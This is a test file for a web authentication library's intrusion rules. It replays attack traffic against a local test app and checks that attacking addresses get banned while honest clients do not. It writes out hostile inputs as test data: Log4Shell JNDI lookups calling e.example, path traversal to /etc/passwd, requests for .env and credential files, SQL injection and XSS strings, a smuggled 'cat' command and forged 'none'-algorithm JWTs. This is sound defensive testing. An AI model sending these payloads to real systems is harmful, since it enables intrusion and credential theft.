import {
  Controller,
  Get,
  HttpCode,
  type INestApplication,
  NotFoundException,
  Param,
  Post,
  UnauthorizedException,
} from '@nestjs/common';
import { ApiKeyService, Honeypot, Public, RequireApp, RequireUser, Strikes } from '@portcullis/auth';
import { TestClock } from '../support/clock.js';
import { appWith, ownTokens, userWith } from '../support/credentials.js';
import { rawRequest } from '../support/raw-connection.js';
import { describeOnPlatforms } from '../support/running-app.js';

@Controller()
class RoutesController {
  @Public()
  @Get('public')
  public() {
    return 'in';
  }

  @Public()
  @Get('search')
  search() {
    return [];
  }

  @Public()
  @Get('parcels/:id')
  parcel(@Param('id') id: string) {
    throw new NotFoundException(id);
  }

  @RequireUser('parcels:read')
  @Get('user')
  user() {
    return 'in';
  }

  @RequireApp()
  @Get('app')
  app() {
    return 'in';
  }

  @Strikes({ event: 'login_failed' })
  @Public()
  @Post('login')
  login() {
    throw new UnauthorizedException();
  }

  @Public()
  @HttpCode(200)
  @Post('login-of-others')
  loginOfOthers() {
    return 'in';
  }

  @Public()
  @Post('login-of-its-own')
  loginOfItsOwn() {
    throw new UnauthorizedException();
  }

  @Public()
  @Post('client')
  client() {
    throw new UnauthorizedException();
  }

  @Honeypot()
  @Get('admin.php')
  decoy() {
    return '<form>';
  }
}

/** What one address sends: a request line, headers and a body, by turns. */
type Traffic = readonly [line: string, headers?: Readonly<Record<string, string>>, body?: string][];
type TrafficMaker = (app: INestApplication) => Traffic | Promise<Traffic>;

const times = (count: number, line: (index: number) => string): Traffic =>
  Array.from({ length: count }, (_, index) => [line(index)]);
/** To a handler whose path says nothing of what it takes. */
const sentByForm = (forms: readonly Readonly<Record<string, string>>[]): Traffic =>
  forms.map((form) => [
    'POST /client',
    { 'content-type': 'application/x-www-form-urlencoded' },
    `${new URLSearchParams(form)}`,
  ]);
const sentAsJson = (bodies: readonly object[]): Traffic =>
  bodies.map((body) => ['POST /client', { 'content-type': 'application/json' }, JSON.stringify(body)]);
const numbers = (count: number) => Array.from({ length: count }, (_, index) => index);
const bearers = (tokens: readonly string[]): Traffic =>
  tokens.map((token) => ['GET /user', { authorization: `Bearer ${token}` }]);
const withKeys = (keys: readonly string[]): Traffic => keys.map((key) => ['GET /app', { 'x-api-key': key }]);

const clock = new TestClock();

/** A key as this service makes them that nobody was given. */
async function guesses(app: INestApplication, count: number): Promise<string[]> {
  const other = app.get(ApiKeyService);
  const keys: string[] = [];
  for (let index = 0; index < count; index++) {
    const { key, id } = await other.create({ appId: 'guess', name: 'guess' });
    keys.push(`${key.slice(0, key.indexOf(id))}x${index}${key.slice(-30)}`);
  }
  return keys;
}

/** Tokens of this app whose signature is broken. */
async function forgeries(app: INestApplication, count: number): Promise<string[]> {
  const tokens: string[] = [];
  for (let index = 0; index < count; index++) {
    const { authorization } = await userWith(app, ['parcels:read'], `user${index}`);
    const [head, body] = authorization.slice('Bearer '.length).split('.');
    tokens.push(`${head}.${body}.${'A'.repeat(86)}`);
  }
  return tokens;
}

/** Tokens of this app whose key nobody knows. */
async function strangeTokens(app: INestApplication, count: number): Promise<string[]> {
  const { authorization } = await userWith(app, ['parcels:read']);
  const [head, body] = authorization.slice('Bearer '.length).split('.');
  const header = JSON.parse(Buffer.from(head as string, 'base64url').toString());
  return Array.from({ length: count }, (_, index) => {
    const strange = json({ ...header, kid: `of-before-${index}` });
    return `${strange}.${body}.${'A'.repeat(86)}`;
  });
}

const json = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const claims = { iss: ownTokens.issuer.url, aud: ownTokens.audience, sub: 'root', exp: 4_102_444_800 };
const confused = (alg: string) => `${json({ alg, typ: 'at+jwt' })}.${json(claims)}.${'A'.repeat(43)}`;

const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficMaker])[] = [
  ['credential-stuffing', 'ten failed logins', () => times(10, () => 'POST /login')],
  ['key-guessing', 'ten keys that were never made', async (app) => withKeys(await guesses(app, 10))],
  ['token-forging', 'ten tokens with wrong signatures', async (app) => bearers(await forgeries(app, 10))],
  [
    'token-forging',
    'ten texts that are no tokens',
    () => bearers(Array.from('0123456789', (digit) => `x${digit}`)),
  ],
  ['algorithm-attack', 'two tokens signed by nobody', () => bearers([confused('none'), confused('HS256')])],
  [
    'dead-credentials',
    'a hundred tokens of keys that nobody knows',
    (app) => strangeTokens(app, 100).then((tokens) => bearers(tokens)),
  ],
  ['path-probing', 'a hundred paths that nobody has', () => times(100, (index) => `GET /page${index}`)],
  ['id-probing', 'three hundred ids that nobody has', () => times(300, (index) => `GET /parcels/${index}`)],
  ['id-probing', 'the same in a query', () => times(300, (index) => `GET /parcels/1?of=${index}`)],
  ['telltale-path', 'two files with secrets', () => [['GET /.env'], ['GET /.git/config']]],
  [
    'telltale-path',
    'two paths of known holes, in disguise',
    () => [['GET /%2561ws/../.aws;x/credentials'], ['POST /./cgi-bin//luci']],
  ],
  [
    'foreign-file-rush',
    'what other software is made of, all at once',
    () => times(13, (index) => `GET /shop${index}.php`),
  ],
  [
    'scanner-agent',
    'two requests of a scanner',
    () => [
      ['GET /public', { 'user-agent': 'sqlmap/1.8#stable' }],
      ['GET /public', { 'user-agent': 'Fuzz Faster U Fool v2.1.0' }],
    ],
  ],
  ['certain-payload', 'a way out of the folder', () => [['GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd']]],
  ['certain-payload', 'wrappers of PHP', () => times(2, () => 'GET /?file=php://filter/resource=index')],
  [
    'certain-payload-owned',
    'look-ups in headers',
    () => [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send.
      ['GET /public', { referer: '${jndi:ldap://e.example/a}' }],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the same.
      ['GET /public', { 'user-agent': '${${lower:j}ndi:ldap://e.example/a}' }],
    ],
  ],
  [
    'likelier-payload',
    'five injections that are two at once, answered 404',
    () => [
      ["GET /parcels/a?q='%20or%20'1'='1"],
      ['GET /parcels/a?q=1+or/**/1%3D1'],
      ['GET /parcels/b?r=%3Cscript%3Ealert(1)'],
      ['GET /parcels/b?s=%3Cimg%20src=x%20onerror=alert(2)%3E'],
      ['GET /parcels/b?t=x;cat%20/etc/hosts'],
    ],
  ],
  [
    'password-rush',
    'five passwords of which only the handler knows, beside one key',
    () =>
      numbers(5).map((guess) => [
        'POST /login-of-its-own',
        { authorization: `Basic ${btoa(`admin:${guess}`)}`, 'x-api-key': 'a-key' },
      ]),
  ],
  [
    'secret-guessing',
    'passwords where no path tells of any, by forms',
    () => sentByForm(numbers(34).map((guess) => ({ user: 'ada', pwd: `${guess}` }))),
  ],
  [
    'secret-guessing',
    'one password for many, within what is sent',
    () => sentAsJson(numbers(34).map((guess) => ({ input: { userName: `u${guess}`, userPassword: 'x' } }))),
  ],
  ['foreign-login', 'six guesses at a mail program', () => times(6, () => 'POST /webmail/?_task=login')],
  ['login-rush', 'ten guesses at a login that is gone', () => times(10, () => 'POST /api/login')],
  [
    'refused-attempts',
    'a hundred guesses that only the handler knows of',
    () => times(100, () => 'POST /login-of-its-own'),
  ],
  ['honeypot', 'one touch of a decoy', () => [['GET /admin.php']]],
];

const HONEST: readonly (readonly [rule: string, what: string, traffic: TrafficMaker])[] = [
  [
    'credential-stuffing',
    'nine failed logins, and then a good one',
    () => [...times(9, () => 'POST /login'), ['POST /login-of-others']],
  ],
  [
    'key-guessing',
    'a device that did not get its new key',
    (app) => guesses(app, 1).then((keys) => withKeys(Array.from({ length: 40 }, () => keys[0] as string))),
  ],
  [
    'key-guessing',
    'twenty devices with revoked keys',
    async (app) => {
      const keys: string[] = [];
      for (let index = 0; index < 20; index++) {
        const { key, id } = await app.get(ApiKeyService).create({ appId: 'old', name: 'old' });
        await app.get(ApiKeyService).revoke(id);
        keys.push(key);
      }
      return withKeys(keys);
    },
  ],
  [
    'token-forging',
    'a client that goes on with one broken token',
    (app) =>
      forgeries(app, 1).then((tokens) => bearers(Array.from({ length: 40 }, () => tokens[0] as string))),
  ],
  [
    'algorithm-attack',
    'a client of an issuer that signs in another way',
    () => bearers([confused('RS512'), confused('RS512'), confused('RS512')]),
  ],
  ['path-probing', 'a favicon, again and again', () => times(60, () => 'GET /favicon.ico')],
  ['path-probing', 'a dozen old links', () => times(12, (index) => `GET /old/${index}`)],
  ['id-probing', 'a page of things that are gone', () => times(60, (index) => `GET /parcels/gone${index}`)],
  [
    'telltale-path',
    'what the standards put under .well-known',
    () => times(12, (index) => `GET /.well-known/thing${index}`),
  ],
  [
    'scanner-agent',
    'libraries that people use',
    () =>
      [
        'curl/8.5.0',
        'python-requests/2.32',
        'Go-http-client/2.0',
        'okhttp/4.12',
        'Mozilla/5.0 (X11; Linux) Nmapper/1',
      ].map((agent) => ['GET /public', { 'user-agent': agent }] as const),
  ],
  [
    'likely-payload',
    'what people write',
    () =>
      [
        "O'Brien%20or%20O'Reilly",
        'select+a+plan+from+the+list',
        'the+union+will+select+a+speaker',
        'sleep+8+hours+(or+more)',
        'wait...+what?',
        '1..10',
        'C%2B%2B+<3+you',
        'a%26b;+cat+food',
        'drop+the+table+off',
        '100%25',
        '%7Bname%7D',
        '../next-page',
        'scripts+and+images',
        '%22salt%22+and+%22pepper%22&page=2',
        "'tea'+OR+'coffee'&sort=price",
        'dog|cat',
        'ny;nc',
        'python|bash',
      ].map((text) => [`GET /search?q=${text}`] as const),
  ],
  ['refused-attempts', 'two hundred requests without a credential', () => times(200, () => 'GET /user')],
  [
    'secret-guessing',
    'an app that goes on with an old password, whatever else it sends',
    () => sentAsJson(numbers(80).map((at) => ({ at, user: 'ada', password: 'old', nonce: `${at}` }))),
  ],
  [
    'secret-guessing',
    'what changes each time, and is no secret',
    () => sentAsJson(numbers(80).map((at) => ({ at, pages: `${at}`, refresh_token: `${at}`, spinner: at }))),
  ],
  ['login-rush', 'four people at a login that is gone', () => times(4, () => 'POST /api/login')],
  ['foreign-file', 'an old bookmark', () => times(10, () => 'GET /index.php')],
  [
    'dead-credentials',
    'a page whose token has ended, and which asks for many things at once',
    async (app) => {
      clock.forward(-7_200);
      const { authorization } = await userWith(app, ['parcels:read']);
      clock.forward(7_200);
      return Array.from({ length: 60 }, () => ['GET /user', { authorization }] as const);
    },
  ],
  ['honeypot', 'its neighbours', () => [['GET /public'], ['GET /admin']]],
];

describeOnPlatforms('the default rules on %s', (running) => {
  let hosts = 0;
  const attackers: string[] = [];

  const send = async (address: string, traffic: Traffic) => {
    const statuses: number[] = [];
    for (const [line, headers = {}, body = ''] of traffic) {
      const length = body === '' ? {} : { 'content-length': `${Buffer.byteLength(body)}` };
      const lines = Object.entries({
        ...{ ...headers, ...length },
        ...{ 'x-forwarded-for': address, connection: 'close' },
      });
      const { status } = await rawRequest(
        running.url,
        line,
        lines.map(([name, value]) => `${name}: ${value}`),
        body,
      );
      statuses.push(status);
    }
    return statuses;
  };

  beforeAll(async () => {
    await running.start({
      portcullis: { tokens: ownTokens, trustedProxies: ['127.0.0.1'], now: clock.now },
      controllers: [RoutesController],
    });
    await appWith(running.app);
  });

  it.each(ATTACKS)('%s: bans for %s', async (rule, _, makeTraffic) => {
    const address = `203.0.113.${++hosts}`;
    attackers.push(`${address}/32`);
    // Of what a window had before a moment ago a share is counted, rounded down: the last of so many would be one too few.
    clock.stop();
    const traffic = await makeTraffic(running.app);
    await send(address, traffic.slice(0, -1));
    expect(running.events.of('address.banned')).toHaveLength(attackers.length - 1);
    await send(address, traffic.slice(-1));
    const banned = await running.events.first('address.banned', attackers.length);
    expect(banned.at(-1)?.ban).toMatchObject({ rule, network: `${address}/32` });
    expect(await send(address, [['GET /public']])).toEqual([403]);
  });

  it.each(HONEST)('%s: lets be %s', async (_, __, makeTraffic) => {
    const address = `198.51.100.${++hosts}`;
    await send(address, await makeTraffic(running.app));
    expect(await send(address, [['GET /public'], ['GET /public']])).toEqual([200, 200]);
  });

  afterAll(async () => {
    await running.close();
    expect(running.events.of('address.banned').map(({ ban }) => ban.network)).toEqual(attackers);
  });
});
